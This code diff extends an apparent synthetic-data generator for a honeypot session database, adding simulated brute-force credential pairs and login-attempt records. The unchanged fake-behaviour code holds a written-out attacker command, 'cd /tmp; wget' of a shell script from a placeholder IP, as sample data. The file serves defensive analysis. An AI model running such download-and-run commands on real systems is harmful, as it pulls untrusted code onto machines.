@@ -10,7 +10,7 @@ from functools import lru_cache
 from hashlib import sha256
 from ipaddress import IPv4Address
 from itertools import accumulate
-from typing import NamedTuple
+from typing import Any, NamedTuple
 
 from sqlalchemy import Connection, select
 
@@ -26,6 +26,7 @@ from snapshots.domain.facts.ip_type import IpType
 from snapshots.domain.facts.network_types import NetworkTypes
 from snapshots.domain.facts.observation import label_of
 from snapshots.domain.session.behaviour import Behaviour, Trait
+from snapshots.domain.session.logins import credentials_number
 from snapshots.domain.session.summary import SessionSummary
 from snapshots.domain.snapshot.fact_methods import source_text
 from snapshots.domain.snapshot.gap import Gap
@@ -40,6 +41,9 @@ LISTS = [BEGIN + timedelta(hours=12 * n) for n in range(2 * 729)]
 SOURCES = (("dbip", "mmdb", TABLES), ("tor-exits", "list:TOR", LISTS))
 COUNTRIES = ("CN", "US", "DE", "BR", "IN", "NL", "FR", "VN", "RU", "TH", "SG", "HK", "GB", "KR", "ID")
 NETWORKS = 700
+USERS = ["root", "admin", "ubuntu", "pi", "test", *(f"user{n}" for n in range(300))]
+CREDENTIALS = 20_000
+"""Pairs of user name and password that are tried, a few of them far more often than the others."""
 PAGE = 20_000
 
 
@@ -75,10 +79,15 @@ def build(url: str, sessions: int, addresses: int) -> None:
         _put(connection, "known_addresses", [_address_row(each, connection) for each in known])
         _register(connection)
         _put(connection, "ip_observations", _observation_rows(known, connection))
+        tried = _credentials(chance)
+        _put(connection, "credentials", tried)
+        weights = list(accumulate(1 / rank for rank in range(1, len(tried) + 1)))
+        numbers = [row["credentials_number"] for row in tried]
         for rows in _session_pages(chance, known, sessions, connection):
             for row in rows:
                 counts[row["source_ip"]] += 1
             _put(connection, "session_summaries", rows)
+            _put(connection, "session_logins", _login_rows(chance, rows, numbers, weights))
         _count(connection, counts)
     database.build_indexes()
     with database.engine.connect().execution_options(isolation_level="AUTOCOMMIT") as connection:
@@ -181,8 +190,28 @@ def _observation_rows(known: Sequence[Address], connection: Connection) -> list[
     return rows
 
 
+def _credentials(chance: random.Random) -> list[dict[str, object]]:
+    found: dict[int, dict[str, object]] = {}
+    for n in range(CREDENTIALS):
+        user = chance.choice(USERS)
+        password_hash = sha256(f"pass{n}".encode()).hexdigest()
+        number = credentials_number(user, password_hash)
+        found[number] = {"credentials_number": number, "username": user, "password_hash": password_hash}
+    return list(found.values())
+
+
+def _login_rows(
+    chance: random.Random, rows: Sequence[dict[str, Any]], numbers: Sequence[object], weights: Sequence[float]
+) -> list[dict[str, object]]:
+    """Return the login attempts of sessions, each with other credentials."""
+    return [
+        {"session_id": row["session_id"], "credentials_number": number, "attempts": 1, "successes": 0}
+        for row in rows
+        for number in {*chance.choices(numbers, cum_weights=weights, k=row["login_attempts"])}
+    ]
+
+
 def _behaviours(chance: random.Random) -> list[Behaviour]:
-    users = ["root", "admin", "ubuntu", "pi", "test", *(f"user{n}" for n in range(300))]
     found = []
     for n in range(3_000):
         commands = [f"cd /tmp; wget http://192.0.2.{n % 200}/{n % 40}.sh", "uname -a", f"echo {n % 90}"]
@@ -192,7 +221,7 @@ def _behaviours(chance: random.Random) -> list[Behaviour]:
                 [
                     (at, ((Trait.PROTOCOL, chance.choice(("ssh", "ssh", "telnet"))),)),
                     (at, ((Trait.CLIENT_VERSION, f"SSH-2.0-libssh_0.{n % 30}"), (Trait.HASSH, f"{n % 45:032x}"))),
-                    (at, ((Trait.CREDENTIALS, f'["{users[min(n // 3, 304) * n % 305]}", "pass{n % 1500}"]'),)),
+                    (at, ((Trait.CREDENTIALS, f'["{USERS[min(n // 3, 304) * n % 305]}", "pass{n % 1500}"]'),)),
                     (at, ((Trait.DURATION, str(chance.randrange(1, 99))),)),
                     *((at, ((Trait.COMMAND, text),)) for text in (commands[: n % 4])),
                 ]
